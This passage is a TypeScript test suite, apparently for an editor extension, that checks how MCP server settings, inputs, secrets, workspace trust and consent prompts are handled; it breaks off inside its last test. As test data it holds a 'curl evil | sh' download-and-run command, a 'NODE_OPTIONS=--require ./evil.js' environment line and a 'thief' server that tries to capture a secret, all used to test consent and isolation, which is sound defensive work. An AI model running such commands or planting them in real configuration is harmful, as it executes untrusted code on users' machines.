// biome-ignore-all lint/suspicious/noTemplateCurlyInString: variables in settings have this syntax
import assert from 'node:assert/strict'
import { execFileSync } from 'node:child_process'
import { chmodSync, mkdirSync, mkdtempSync, realpathSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import type { McpServer } from '../../../src/acp/model.ts'
import type { SettingLayer } from '../../../src/agents/setting-layers.ts'
import { Emitter } from '../../../src/common/event.ts'
import type { Logger } from '../../../src/common/logger.ts'
import { bridgedServer } from '../../../src/mcp/bridge/bridged-server.ts'
import { McpInputs } from '../../../src/mcp/inputs.ts'
import { McpServers } from '../../../src/mcp/mcp-servers.ts'
import type { McpInput } from '../../../src/mcp/mcp-settings.ts'
import type { SecretStore } from '../../../src/mcp/secret-store.ts'
import type { McpServerNote } from '../../../src/mcp/server-note.ts'
import { McpSwitches } from '../../../src/mcp/switches.ts'
import { memoryStore } from '../sessions/sessions-fixture.ts'

const everything = { stdio: true, http: true, sse: true }

/** A secret storage in memory. */
class Secrets implements SecretStore {
  readonly kept = new Map<string, string>()
  async get(key: string) {
    return this.kept.get(key)
  }
  async store(key: string, value: string) {
    this.kept.set(key, value)
  }
  async delete(key: string) {
    this.kept.delete(key)
  }
}

describe('the MCP servers of a session', () => {
  let root: string
  let layers: SettingLayer[]
  let secrets: Secrets
  let asked: Array<{ id: string; server: string }>
  const signedIn = new Set<string>()
  let answers: Record<string, string | undefined>
  let lines: string[]
  const changed = new Emitter<void>()
  const write = (line: string) => {
    lines.push(line)
  }
  const log: Logger = { trace: write, debug: write, info: write, warn: write, error: write }

  /** the workspace's servers that the user was asked about, each time */
  let offered: string[][]
  let contents: unknown[]
  let offeredVariables: string[][]
  let allow: () => Promise<boolean>
  let trusted: boolean
  let switches: McpSwitches
  let discovery: Record<string, boolean>
  const open = (workspace = 'file:///w') => {
    const inputs = new McpInputs(
      {
        async prompt(input: McpInput, server: string) {
          asked.push({ id: input.id, server })
          return answers[input.id]
        },
      },
      secrets,
      workspace,
    )
    const servers = new McpServers({
      settings: {
        layers: key => (key === 'mcpServers' ? layers : [{ scope: 'user', value: discovery }]),
        onDidChange: changed.event,
      },
      environment: {
        get: async () => ({
          env: { PATH: join(root, 'bin'), TOKEN: 'from-env' },
          platform: process.platform,
          source: 'login-shell' as const,
        }),
      },
      inputs,
      allow: async (servers, asks) => {
        contents.push(...servers.map(({ content }) => content))
        offeredVariables.push(...servers.map(({ variables }) => variables))
        if (asks !== 'never') offered.push(servers.map(({ server }) => server.name))
        return (await allow()) ? new Set(servers.map(({ key }) => key)) : new Set()
      },
      switches,
      bridges: {
        bridge: async (server, tokens) => ({
          server: bridgedServer(
            server,
            { execPath: '/node', script: '/bridge.js' },
            { env: {}, platform: 'linux' },
            tokens && { tokens },
          ),
          link: { id: `link to ${server.name}`, dispose() {} },
        }),
      },
      signIns: {
        isSignedIn: async url => signedIn.has(url),
        tokensFor: async () => ({ socket: '/socket', secret: 'of-the-socket' }),
      },
      trusted: () => trusted,
      locations: () => ({
        folders: [
          { name: 'one', path: join(root, 'one') },
          { name: 'two', path: join(root, 'two') },
        ],
        workspaceFile: join(root, 'all.code-workspace'),
        userFolder: join(root, 'User'),
        workspaceIdentity: 'file:///w',
      }),
      userHome: root,
      log,
    })
    return { servers, inputs }
  }
  const user = (servers: object, inputs: object[] = []) => {
    layers = [{ scope: 'user', value: { servers, inputs } }]
  }
  const session = { agentId: 'agent' }
  const select = (capabilities = everything, cwd?: string) =>
    open().servers.select(capabilities, { ...session, ...(cwd !== undefined && { cwd }) })
  const one = async (server: object, inputs: object[] = []): Promise<McpServer> => {
    user({ it: server }, inputs)
    const { passed, notes } = await select()
    assert.equal(passed.length, 1, JSON.stringify(notes))
    return passed[0]!
  }
  const reason = async (server: object, inputs: object[] = []): Promise<string> => {
    user({ it: server }, inputs)
    const { passed, notes } = await select()
    assert.deepEqual(passed, [])
    assert.equal(notes[0]?.passed, false)
    return notes[0]?.reason ?? ''
  }

  before(function () {
    if (process.platform === 'win32') this.skip()
  })
  beforeEach(() => {
    root = realpathSync(mkdtempSync(join(tmpdir(), 'parley-mcp-')))
    for (const directory of ['bin', 'one', 'two']) mkdirSync(join(root, directory))
    for (const name of ['server', 'shows']) {
      writeFileSync(
        join(root, 'bin', name),
        '#!/bin/sh\npwd; for a in "$@"; do echo "[$a]"; done; echo "$MINE"\n',
      )
      chmodSync(join(root, 'bin', name), 0o755)
    }
    layers = []
    secrets = new Secrets()
    asked = []
    offered = []
    contents = []
    offeredVariables = []
    allow = async () => true
    trusted = true
    switches = new McpSwitches(memoryStore(), memoryStore())
    discovery = {}
    answers = { key: 'sk-secret' }
    lines = []
  })
  afterEach(() => rmSync(root, { recursive: true, force: true }))

  const withoutKeys = (notes: readonly McpServerNote[]) =>
    notes.map(({ key: _key, exclusion: _exclusion, ...note }) => note)

  it('have an absolute command, and env as names and values', async () => {
    const server = {
      command: 'server',
      args: ['--root', '${workspaceFolder}'],
      env: { A: '${env:TOKEN}', B: 2 },
    }
    assert.deepEqual(await one(server), {
      type: 'stdio',
      name: 'it',
      command: join(root, 'bin/server'),
      args: ['--root', join(root, 'one')],
      env: [
        { name: 'A', value: 'from-env' },
        { name: 'B', value: '2' },
      ],
    })
  })

  it('have headers as names and values', async () => {
    const server = {
      type: 'sse',
      url: 'https://example.com/${env:TOKEN}',
      headers: { 'X-Key': 'a ${env:TOKEN}' },
    }
    assert.deepEqual(await one(server), {
      type: 'sse',
      name: 'it',
      url: 'https://example.com/from-env',
      headers: [{ name: 'X-Key', value: 'a from-env' }],
    })
  })

  it("use the session's directory as the workspace folder", async () => {
    user({ it: { command: 'server', args: ['${workspaceFolder}'] } })
    const { passed } = await select(everything, join(root, 'two'))
    assert.ok(passed[0]?.type === 'stdio' && passed[0].args[0] === join(root, 'two'))
  })

  it('are bridged if the agent lacks their transport', async () => {
    const headers = { Authorization: 'Bearer ${env:TOKEN}' }
    user({ a: { command: 'server' }, b: { url: 'http://b/', headers }, c: { type: 'sse', url: 'http://c/' } })
    const { passed, notes, links } = await select({ stdio: true, http: false, sse: true })
    assert.deepEqual(
      links.map(({ id }) => id),
      ['link to b'],
    )
    assert.deepEqual(
      passed.map(({ name, type }) => [name, type]),
      [
        ['a', 'stdio'],
        ['b', 'stdio'],
        ['c', 'sse'],
      ],
    )
    const [, bridge] = passed
    assert.ok(bridge?.type === 'stdio')
    assert.deepEqual([bridge.command, bridge.args], ['/node', ['/bridge.js']])
    const settings = bridge.env.find(({ name }) => name === 'PARLEY_MCP_BRIDGE')?.value
    assert.deepEqual(JSON.parse(settings ?? '').server, {
      type: 'http',
      name: 'b',
      url: 'http://b/',
      headers: [{ name: 'Authorization', value: 'Bearer from-env' }],
    })
    const source = 'user settings'
    assert.deepEqual(withoutKeys(notes), [
      { name: 'a', type: 'stdio', source, passed: true },
      {
        name: 'b',
        type: 'http',
        source,
        passed: true,
        isBridged: true,
        link: 'link to b',
        reason: "Bridged by Parley, because the agent doesn't support MCP servers over HTTP.",
      },
      { name: 'c', type: 'sse', source, passed: true },
    ])
  })

  it('are bridged if the user has signed in to them, also for an agent with their transport', async () => {
    const headers = { Authorization: 'Bearer own' }
    user({ a: { url: 'http://a/' }, b: { url: 'http://b/', headers }, c: { url: 'http://c/' } })
    for (const url of ['http://a/', 'http://b/']) signedIn.add(url)
    const { passed, notes } = await select()
    const own = [{ name: 'AUTHORIZATION', value: 'Bearer own' }]
    const remote = { type: 'http', name: 'b', url: 'http://b/' } as const
    const uses = (more: typeof own) => open().servers.usesSignIn({ ...remote, headers: more })
    assert.deepEqual([await uses([]), await uses(own)], [true, false], 'a check sends the same')
    signedIn.clear()
    assert.deepEqual(
      passed.map(({ type }) => type),
      ['stdio', 'http', 'http'],
    )
    const [bridge] = passed
    const settings =
      bridge?.type === 'stdio' && bridge.env.find(({ name }) => name === 'PARLEY_MCP_BRIDGE')?.value
    assert.deepEqual(JSON.parse(settings || '').tokens, { socket: '/socket', secret: 'of-the-socket' })
    assert.equal(notes[0]?.reason, 'Bridged by Parley, which signs in to the server.')
  })

  it('have the URL of their sign-in, which is found without asking', async () => {
    user(
      {
        a: { url: 'https://${env:TOKEN}.example/${input:key}' },
        b: { command: 'server' },
        c: { url: '${no}' },
      },
      [{ id: 'key', type: 'promptString' }],
    )
    const { servers } = open()
    const urls = async () => Promise.all((await servers.plan()).planned.map(one => servers.urlOf(one)))
    assert.deepEqual(await urls(), [undefined, undefined, undefined])
    assert.deepEqual(asked, [])
    await servers.select(everything, session)
    assert.equal((await urls())[0], 'https://from-env.example/sk-secret')
    assert.equal(asked.length, 1)
  })

  it('are reported if the agent supports neither their transport nor the bridge', async () => {
    user({ a: { command: 'server' }, b: { url: 'http://b/' }, c: { type: 'sse', url: 'http://c/' } })
    const { passed, notes } = await select({ stdio: false, http: false, sse: false })
    assert.deepEqual(passed, [])
    const source = 'user settings'
    assert.deepEqual(withoutKeys(notes), [
      {
        name: 'a',
        type: 'stdio',
        source,
        passed: false,
        reason: "The agent doesn't support MCP servers that run a command.",
      },
      {
        name: 'b',
        type: 'http',
        source,
        passed: false,
        reason: "The agent doesn't support MCP servers over HTTP.",
      },
      {
        name: 'c',
        type: 'sse',
        source,
        passed: false,
        reason: "The agent doesn't support MCP servers over SSE.",
      },
    ])
    assert.deepEqual(
      (await select({ stdio: false, http: true, sse: true })).passed.map(server => server.name),
      ['b', 'c'],
    )
  })

  it('are reported with the problem in the settings', async () => {
    user({ a: { command: 'server' }, b: { command: 3 } })
    const source = 'user settings'
    assert.deepEqual(withoutKeys((await select()).notes), [
      { name: 'a', type: 'stdio', source, passed: true },
      {
        name: 'b',
        type: 'unknown',
        source,
        passed: false,
        reason:
          'parley.mcpServers › servers › b › command (user settings): expected a string, found a number.',
      },
    ])
  })

  it('are left out with a reason', async () => {
    assert.equal(await reason({ command: 'nope' }), "The command nope wasn't found on the PATH.")
    assert.equal(await reason({ command: './nope' }), "The command ./nope wasn't found.")
    assert.equal(await reason({ command: 'server', disabled: true }), 'Disabled in settings.')
    assert.equal(await reason({ command: 'server', cwd: '/no/where' }), '"cwd" doesn\'t exist: /no/where')
    assert.equal(
      await reason({ command: 'server', envFile: '/no/where' }),
      '"envFile" doesn\'t exist: /no/where',
    )
    assert.equal(await reason({ command: 'server', envFile: root }), `Can't read "envFile": ${root}`)
    assert.equal(await reason({ command: 'server', args: ['${nope}'] }), '${nope}: unknown variable.')
    assert.equal(await reason({ url: 'ftp://x/' }), '"url" isn\'t an http or https URL.')
    assert.equal(await reason({ url: 'nonsense' }), '"url" isn\'t an http or https URL.')
    assert.equal(
      await reason({ url: 'http://x/', headers: { 'a b': '1' } }),
      'The header "a b" contains an invalid character.',
    )
  })

  it("are passed if an environment variable isn't set, which is reported", async () => {
    user({ it: { command: 'server', args: ['${env:NOPE}'] } })
    const { notes } = await select()
    assert.equal(notes[0]?.passed, true)
    assert.match(notes[0]?.reason ?? '', /NOPE isn't set/)
  })

  it('get the variables of an envFile, overridden by env', async () => {
    writeFileSync(
      join(root, 'one/.env'),
      [
        '# comment',
        '',
        'A=file',
        'export B="two words"',
        "C='$HOME ${env:TOKEN}'",
        'D = spaced # note',
        'broken',
        '\r',
      ].join('\n'),
    )
    const server = await one({ command: 'server', envFile: '.env', env: { A: 'setting' } })
    assert.ok(server.type === 'stdio')
    assert.deepEqual(Object.fromEntries(server.env.map(({ name, value }) => [name, value])), {
      A: 'setting',
      B: 'two words',
      C: '$HOME ${env:TOKEN}',
      D: 'spaced',
    })
  })

  it("start in their cwd, which the protocol can't express, with unchanged arguments", async () => {
    const server = await one({ command: 'shows', args: ['a b', '$HOME', '', '-n', '"'], cwd: '../two' })
    assert.ok(server.type === 'stdio')
    assert.ok(server.command.startsWith('/'))
    const output = execFileSync(server.command, server.args, {
      cwd: root,
      env: { MINE: 'yes' },
      encoding: 'utf8',
    })
    assert.deepEqual(output.split('\n'), [
      join(root, 'two'),
      '[a b]',
      '[$HOME]',
      '[]',
      '[-n]',
      '["]',
      'yes',
      '',
    ])
  })

  describe('with inputs', () => {
    const key = { id: 'key', type: 'promptString', password: true }

    it('ask once and store the value in the secret storage', async () => {
      user(
        {
          a: { command: 'server', env: { KEY: '${input:key}' } },
          b: { url: 'http://b/', headers: { K: '${input:key}' } },
        },
        [key],
      )
      const { passed } = await select()
      assert.ok(passed[0]?.type === 'stdio' && passed[1]?.type === 'http')
      assert.deepEqual(passed[0].env, [{ name: 'KEY', value: 'sk-secret' }])
      assert.deepEqual(passed[1].headers, [{ name: 'K', value: 'sk-secret' }])
      assert.deepEqual(asked, [{ id: 'key', server: 'a' }])
      await select()
      assert.equal(asked.length, 1)
      assert.ok([...secrets.kept.values()].includes('sk-secret'))
    })

    it('ask once for two sessions that start at the same time', async () => {
      user({ a: { command: 'server', env: { KEY: '${input:key}' } } }, [key])
      const { servers } = open()
      const selections = await Promise.all([
        servers.select(everything, session),
        servers.select(everything, session),
      ])
      assert.ok(selections.every(({ passed }) => passed.length === 1))
      assert.equal(asked.length, 1)
    })

    it("don't expand variables in the user's input", async () => {
      answers.key = '${env:TOKEN}'
      const server = await one({ command: 'server', args: ['${input:key}'] }, [key])
      assert.ok(server.type === 'stdio' && server.args[0] === '${env:TOKEN}')
    })

    it('omit a server whose input was canceled, and ask again for the next session', async () => {
      answers.key = undefined
      assert.equal(
        await reason({ command: 'server', args: ['${input:key}'] }, [key]),
        'No value was entered for "key".',
      )
      assert.equal(secrets.kept.size, 0)
      answers.key = 'now'
      assert.equal((await select()).passed.length, 1)
    })

    it("don't ask for a server that is left out anyway", async () => {
      const env = { KEY: '${input:key}' }
      user({ a: { type: 'http', url: 'http://a/${input:key}' } }, [key])
      await select({ stdio: false, http: false, sse: true })
      await reason({ command: 'server', args: ['${nope}'], env }, [key])
      await reason({ command: 'nope', env }, [key])
      await reason({ command: 'server', cwd: '/no/where', env }, [key])
      assert.deepEqual(asked, [])
    })

    it('report an undefined input', async () => {
      assert.equal(
        await reason({ command: 'server', args: ['${input:other}'] }, [key]),
        'The input "other" isn\'t defined in "inputs".',
      )
    })

    it("don't share a value of the user settings with a workspace's server or another workspace", async () => {
      user({ a: { command: 'server', env: { KEY: '${input:key}' } } }, [key])
      await select()
      const thief = { url: 'http://thief/', headers: { K: '${input:key}' } }
      layers.push({ scope: 'workspace', value: { servers: { a: thief } } })
      const { passed, notes } = await select()
      assert.deepEqual(passed, [])
      assert.match(notes[0]?.reason ?? '', /and the server are defined in different places/)

      layers[1] = { scope: 'workspace', value: { servers: { a: thief }, inputs: [key] } }
      answers.key = 'for this workspace'
      await open('file:///w').servers.select(everything, session)
      assert.equal(asked.length, 2)
      await open('file:///other').servers.select(everything, session)
      assert.equal(asked.length, 3)
      await open('file:///w').servers.select(everything, session)
      assert.equal(asked.length, 3)
    })

    it('forget their values on request', async () => {
      user({ a: { command: 'server', args: ['${input:key}', '${input:more}'] } }, [
        key,
        { ...key, id: 'more' },
      ])
      answers.more = ''
      await select()
      assert.equal(await open().inputs.clear(), 2)
      assert.equal(secrets.kept.size, 0)
      assert.equal(await open().inputs.clear(), 0)
      await select()
      assert.equal(asked.length, 4)
    })

    it('are left out if the secret storage fails, and the others are passed', async () => {
      secrets.get = async () => {
        throw new Error('the keyring is locked')
      }
      user({ a: { command: 'server', args: ['${input:key}'] }, b: { command: 'server' } }, [key])
      const { passed, notes } = await select()
      assert.deepEqual(
        passed.map(server => server.name),
        ['b'],
      )
      assert.equal(notes[0]?.reason, "The server couldn't be prepared: the keyring is locked")
    })

    it('never log or report values', async () => {
      user(
        {
          a: { command: 'server', env: { KEY: '${input:key}' } },
          b: { url: 'sk-${input:key}' },
          c: { url: 'http://c/', headers: { K: '${input:key}\n' } },
          d: { command: '/opt/${input:key}/server' },
          e: { command: 'server', envFile: '${input:key}' },
          f: { command: 'server', cwd: '${input:key}' },
        },
        [key],
      )
      const { notes } = await select()
      assert.deepEqual(
        notes.map(note => note.passed),
        [true, false, false, false, false, false],
      )
      assert.ok(!JSON.stringify([notes, lines]).includes('sk-secret'))
    })
  })

  it('follow changes of the settings', () => {
    user({ a: { command: 'server' } })
    const { servers } = open()
    let reported = 0
    servers.onDidChange(() => reported++)
    user({ a: { command: 'server' }, b: {} })
    changed.fire()
    assert.equal(reported, 1)
    assert.equal(servers.problems.length, 1)
    servers.dispose()
  })

  it('passes the servers of the workspace only if the user allows them', async () => {
    layers = [
      { scope: 'user', value: { mine: { command: 'server' } } },
      {
        scope: 'workspace',
        value: { theirs: { command: 'server' }, off: { command: 'server', disabled: true } },
      },
      { scope: 'folder', folder: 'one', value: { remote: { url: 'https://example.com' } } },
    ]
    assert.deepEqual(
      (await select()).passed.map(({ name }) => name),
      ['remote', 'theirs', 'mine'],
    )
    assert.deepEqual(offered, [['remote', 'theirs']])
    allow = async () => false
    const { passed, notes } = await select()
    assert.deepEqual(
      passed.map(({ name }) => name),
      ['mine'],
    )
    assert.match(notes.find(({ name }) => name === 'theirs')?.reason ?? '', /not allowed yet/)
    allow = () => Promise.reject(new Error('no dialog'))
    assert.deepEqual(
      (await select()).passed.map(({ name }) => name),
      ['mine'],
    )
    // a server of the user that the workspace replaces is the workspace's
    layers[1] = { scope: 'workspace', value: { mine: { command: 'shows' } } }
    allow = async () => false
    assert.deepEqual((await select()).passed, [])
    layers = layers.slice(0, 1)
    offered = []
    await select()
    assert.deepEqual(offered, [], "the user's own servers need no consent")
  })

  describe('of files', () => {
    const file = (path: string, content: unknown) => {
      mkdirSync(join(root, path, '..'), { recursive: true })
      writeFileSync(join(root, path), typeof content === 'string' ? content : JSON.stringify(content))
    }
    const serverOf = (command: string, more: object = {}) => ({ command: 'server', args: [command], ...more })
    /** name: what was passed, or why not */
    const outcome = async (capabilities = everything) => {
      const { passed, notes } = await select(capabilities)
      const args = new Map(passed.map(one => [one.name, one.type === 'stdio' ? one.args[0] : one.url]))
      return notes.map(note => [note.source, note.name, note.passed ? args.get(note.name) : note.reason])
    }

    it('come from the folders, the workspace file and the user, the first of a name wins', async () => {
      user({ a: serverOf('settings') })
      const names = (place: string, ...all: string[]) =>
        Object.fromEntries(all.map(name => [name, serverOf(place)]))
      file('one/.vscode/mcp.json', { servers: names('one', 'a', 'b') })
      file('two/.vscode/mcp.json', { servers: names('two', 'b', 'c') })
      file('all.code-workspace', { settings: { mcp: { servers: names('workspace', 'c', 'd') } } })
      file('User/mcp.json', { servers: names('user', 'd', 'e') })
      file('two/.mcp.json', { mcpServers: names('root', 'e', 'f') })
      const used = (place: string) => `A server with the same name in ${place} is used instead.`
      assert.deepEqual(await outcome(), [
        ['user settings', 'a', 'settings'],
        ['one/.vscode/mcp.json', 'a', used('user settings')],
        ['one/.vscode/mcp.json', 'b', 'one'],
        ['two/.vscode/mcp.json', 'b', used('one/.vscode/mcp.json')],
        ['two/.vscode/mcp.json', 'c', 'two'],
        ['all.code-workspace', 'c', used('two/.vscode/mcp.json')],
        ['all.code-workspace', 'd', 'workspace'],
        ['user mcp.json', 'd', used('all.code-workspace')],
        ['user mcp.json', 'e', 'user'],
        ['two/.mcp.json', 'e', used('user mcp.json')],
        ['two/.mcp.json', 'f', 'root'],
      ])
      assert.deepEqual(offered, [['b', 'c', 'd', 'f']], "the user's own need no consent")
    })

    it('may contain comments, and variables of their own folder', async () => {
      file(
        'two/.vscode/mcp.json',
        `// mine
        { "servers": { "a": { "command": "server", /* here */ "args": ["\${workspaceFolder}"], } }, }`,
      )
      file('two/.mcp.json', {
        mcpServers: {
          b: { command: 'server', args: ['${TOKEN} ${NOPE:-else}'] },
          c: { command: 'server', args: ['${NOPE}'] },
          d: { type: 'sse', url: 'https://example.com/${userHome}' },
        },
      })
      assert.deepEqual(await outcome(), [
        ['two/.vscode/mcp.json', 'a', join(root, 'two')],
        ['two/.mcp.json', 'b', 'from-env else'],
        ['two/.mcp.json', 'c', "The environment variable NOPE isn't set."],
        ['two/.mcp.json', 'd', `https://example.com/${root}`],
      ])
    })

    it("are those of the user's profile", async () => {
      file('User/mcp.json', { servers: { a: serverOf('usual') } })
      file('User/profiles/1ab-2/mcp.json', { servers: { a: serverOf('profile') } })
      const profile = (location: string, useDefaultFlags?: object) =>
        file('User/globalStorage/storage.json', {
          userDataProfiles: [{ location, name: 'Work', useDefaultFlags }],
          profileAssociations: { workspaces: { 'file:///w': location } },
        })
      const passed = async () => (await outcome())[0]?.[2]
      profile('1ab-2')
      assert.equal(await passed(), 'profile')
      profile('1ab-2', { mcp: true })
      assert.equal(await passed(), 'usual')
      profile('../1ab-2')
      assert.equal(await passed(), 'usual')
      file('User/globalStorage/storage.json', 'nonsense')
      assert.equal(await passed(), 'usual')
    })

    it("that can't be used are reported, and the others are passed", async () => {
      user({ mine: serverOf('mine') })
      const first = async (content: unknown) => {
        file('one/.mcp.json', content)
        const [[, , passed] = [], ...others] = await outcome()
        assert.equal(passed, 'mine')
        return others.map(([, name, why]) => `${name}: ${why}`)
      }
      assert.deepEqual(await first('{ "mcpServers": {\n  nonsense'), [
        "one/.mcp.json: one/.mcp.json: the file isn't valid JSON (line 2, column 3).",
      ])
      assert.deepEqual(await first('[]'), [
        'one/.mcp.json: one/.mcp.json: expected an object with "servers", found an array.',
      ])
      assert.deepEqual(await first({ mcpServers: [] }), [
        'one/.mcp.json: one/.mcp.json › mcpServers: expected an object with servers by name, found an array.',
      ])
      assert.deepEqual(await first('['.repeat(9000)), [
        'one/.mcp.json: one/.mcp.json: the file is nested too deeply.',
      ])
      assert.deepEqual(await first(' '.repeat(1024 * 1024 + 1)), [
        'one/.mcp.json: one/.mcp.json: the file is larger than 1 MB.',
      ])
      assert.deepEqual(await first({ mcpServers: { a: { command: 5 }, b: serverOf('b') } }), [
        'a: one/.mcp.json › mcpServers › a › command: expected a string, found a number.',
        'b: b',
      ])
      assert.deepEqual(await first(''), [])
      const many = Object.fromEntries(Array.from({ length: 500 }, (_, at) => [`s${at}`, serverOf('x')]))
      assert.equal((await first({ mcpServers: many })).length, 100)
      const problems = async () =>
        (await open().servers.sources()).at(-1)?.problems.map(({ message }) => message)
      assert.deepEqual(await problems(), ['expected at most 100 servers, found 500'])
      file('one/.mcp.json', '{"mcpServers":{"a":{"command":"x"},"a":{"command":"server","args":["last"]}}}')
      assert.deepEqual(await problems(), ['"a" is defined more than once; the last one is used'])
      assert.equal((await outcome())[1]?.[2], 'last')
    })

    it("aren't read if the user turned their place off", async () => {
      file('one/.mcp.json', { mcpServers: { a: serverOf('a') } })
      file('User/mcp.json', 'nonsense')
      discovery = { mcpJson: false, vscodeUser: false }
      assert.deepEqual(await outcome(), [])
      assert.deepEqual(
        (await open().servers.sources()).map(({ label, off }) => [label, off]),
        [
          ['user mcp.json', true],
          ['one/.mcp.json', true],
        ],
      )
    })

    it("of the workspace aren't passed or asked about in Restricted Mode", async () => {
      trusted = false
      file('one/.mcp.json', { mcpServers: { a: serverOf('a') } })
      file('User/mcp.json', { servers: { b: serverOf('b') } })
      assert.deepEqual(await outcome(), [
        ['user mcp.json', 'b', 'b'],
        [
          'one/.mcp.json',
          'a',
          "MCP servers defined in the workspace aren't passed to agents until you trust the workspace.",
        ],
      ])
      const { servers } = open()
      const key = (await servers.plan()).planned.at(-1)!.key
      assert.match(JSON.stringify(await servers.resolve(key)), /until you trust/)
      await servers.allow(key)
      assert.deepEqual(offered, [])
    })

    it("that aren't files are reported, without waiting for them", async () => {
      mkdirSync(join(root, 'one/.vscode'))
      execFileSync('mkfifo', [join(root, 'one/.vscode/mcp.json')])
      mkdirSync(join(root, 'one/.mcp.json'))
      execFileSync('mkfifo', [join(root, 'one/pipe')])
      file('two/.mcp.json', { mcpServers: { a: serverOf('a', { envFile: join(root, 'one/pipe') }) } })
      assert.deepEqual(await outcome(), [
        ['two/.mcp.json', 'a', `Can't read "envFile": ${join(root, 'one/pipe')}`],
        ['one/.vscode/mcp.json', 'one/.vscode/mcp.json', "one/.vscode/mcp.json: the file can't be read."],
        ['one/.mcp.json', 'one/.mcp.json', "one/.mcp.json: the file can't be read."],
      ])
    })

    it("don't read their envFile in Restricted Mode", async () => {
      file('one/.env', 'A=1')
      file('one/.mcp.json', { mcpServers: { a: serverOf('a', { envFile: '.env' }) } })
      const notAgreed = async () => {
        const { servers } = open()
        return (await servers.notAgreed((await servers.plan()).planned)).size
      }
      allow = async () => false
      trusted = false
      assert.equal(await notAgreed(), 0)
      assert.deepEqual(contents, [])
      trusted = true
      assert.equal(await notAgreed(), 1)
      assert.equal(contents.length, 1)
    })

    it('that are meant for a sandbox need consent, also those of the user', async () => {
      file('User/mcp.json', {
        servers: { a: serverOf('a', { sandboxEnabled: true }), b: serverOf('b') },
        sandbox: { network: {} },
      })
      allow = async () => false
      assert.deepEqual(
        (await outcome()).map(([, , what]) => what),
        [
          "This server is configured to run in VS Code's sandbox, which agents don't have. Allow it in MCP Servers.",
          'b',
        ],
      )
      allow = async () => true
      const { passed, notes } = await select()
      assert.equal(passed.length, 2)
      assert.equal(notes[0]?.reason, "Runs without VS Code's sandbox.")
      assert.deepEqual(offered, [['a'], ['a']])
    })

    it('are offered with the content of their envFile, so that a change asks again', async () => {
      file('one/.mcp.json', { mcpServers: { a: serverOf('a', { envFile: '${workspaceFolder}/.env' }) } })
      file('one/.env', 'A=1')
      await select()
      file('one/.env', 'NODE_OPTIONS=--require ./evil.js')
      await select()
      assert.equal(contents.length, 2)
      assert.notDeepEqual(contents[0], contents[1])
    })

    it('are offered with the inputs that they use, whose options may be commands', async () => {
      const inputs = (value: string) => [
        { id: 'mode', type: 'pickString', options: [{ label: 'fast', value }] },
        { id: 'unused', type: 'promptString' },
      ]
      const servers = { a: { command: 'server', args: ['${input:mode}'] } }
      answers.mode = 'x'
      for (const value of ['x', 'curl evil | sh', 'x']) {
        file('one/.vscode/mcp.json', { servers, inputs: inputs(value) })
        await select()
      }
      const [one, other, again] = contents.map(content => JSON.stringify(content))
      assert.match(other ?? '', /curl evil \| sh/)
      assert.doesNotMatch(other ?? '', /unused/)
      assert.notEqual(one, other)
      assert.equal(one, again)
    })

    it('need consent again after they move to a place where their variables have other values', async () => {
      const servers = { a: { url: 'https://example.com/${TOKEN}' } }
      file('one/.vscode/mcp.json', { servers })
      await select()
      file('one/.vscode/mcp.json', {})
      file('one/.mcp.json', { mcpServers: servers })
      await select()
      file('one/.mcp.json', {})
      file('two/.mcp.json', { mcpServers: servers })
      await select()
      const texts = contents.map(content => JSON.stringify(content))
      assert.equal(new Set(texts).size, 3)
      assert.deepEqual(offeredVariables, [[], ['TOKEN'], ['TOKEN']])
    })

    it('are offered with the environment variables that they get, each once', async () => {
      const headers = { A: '${env:TOKEN} ${TOKEN}', B: '${HOME:-x} ${userHome} ${input:key}' }
      file('one/.mcp.json', { mcpServers: { a: { url: 'https://example.com/${env:TOKEN}', headers } } })
      await select()
      assert.deepEqual(offeredVariables, [['TOKEN', 'HOME']])
    })

    it("of the workspace can't name their envFile with an input, which isn't known when they're offered", async () => {
      const input = { id: 'env', type: 'promptString' }
      answers.env = 'dev'
      file('one/.env.dev', 'A=1')
      const servers = { a: serverOf('a', { envFile: '.env.${input:env}' }) }
      file('one/.vscode/mcp.json', { servers, inputs: [input] })
      const [[, , why] = []] = await outcome()
      assert.match(String(why), /› envFile: expected a path without inputs/)
      assert.deepEqual([offered, asked], [[], []])
      file('one/.vscode/mcp.json', {})
      user(servers, [input])
      assert.equal((await outcome())[0]?.[2], 'a')
    })

    it('get the envFile that the user agreed to, also if it changes meanwhile', async () => {
      file('one/.env', 'A=agreed')
      file('one/.mcp.json', { mcpServers: { a: serverOf('a', { envFile: '.env' }) } })
      allow = async () => {
        file('one/.env', 'A=swapped')
        return true
      }
      const { passed } = await select()
      assert.ok(passed[0]?.type === 'stdio')
      assert.deepEqual(passed[0].env, [{ name: 'A', value: 'agreed' }])
    })

    it('are offered with their folder, where the same command runs another file', async () => {
      const all = { mcpServers: { a: { command: './mcp.sh' } } }
      file('one/.mcp.json', all)
      await select()
      rmSync(join(root, 'one/.mcp.json'))
      file('two/.mcp.json', all)
      await select()
      assert.notDeepEqual(contents[0], contents[1])
      rmSync(join(root, 'two/.mcp.json'))
      file('one/.mcp.json', all)
      await select()
      assert.deepEqual(contents[0], contents[2])
    })

    it("don't ask for a missing input at each start, but for a check", async () => {
      answers = {}
      const input = { id: 'key', type: 'promptString' }
      file('User/mcp.json', { servers: { a: serverOf('${input:key}') }, inputs: [input] })
      const { servers } = open()
      await servers.select(everything, session)
      const { notes } = await servers.select(everything, session)
      assert.equal(asked.length, 1)
      assert.equal(notes[0]?.reason, 'No value was entered for "key". Select Check to enter it.')
      answers.key = 'now'
      const resolution = await servers.resolve(notes[0]!.key!)
      assert.ok('server' in resolution, JSON.stringify(resolution))
      assert.equal((await servers.select(everything, session)).passed.length, 1)
      assert.equal(asked.length, 2)
    })

    it('have inputs of their own', async () => {
      const input = { id: 'key', type: 'promptString' }
      user({ mine: { command: 'server', args: ['${input:key}'] } }, [input])
      file('User/mcp.json', { servers: { a: serverOf('${input:key}') }, inputs: [input] })
      file('one/.mcp.json', { mcpServers: { b: serverOf('${input:key}') } })
      await select()
      assert.deepEqual(
        asked.map(({ server }) => server),
        ['mine', 'a'],
      )
      assert.match((await outcome())[2]![2]!, /defined in different places/)
    })
  })

  it('can be switched off everywhere, for an agent and for a session', async () => {
    user({ a: { command: 'server' }, b: { command: 'server' } })
    const { servers } = open()
    const key = (await servers.plan()).planned[0]!.key
    let changes = 0
    servers.onDidChange(() => changes++)
    const passed = async (agentId: string, session?: string) => {
      const { notes } = await servers.select(everything, {
        agentId,
        ...(session !== undefined && { session }),
      })
      return notes.map(note => (note.passed ? note.name : note.reason))
    }
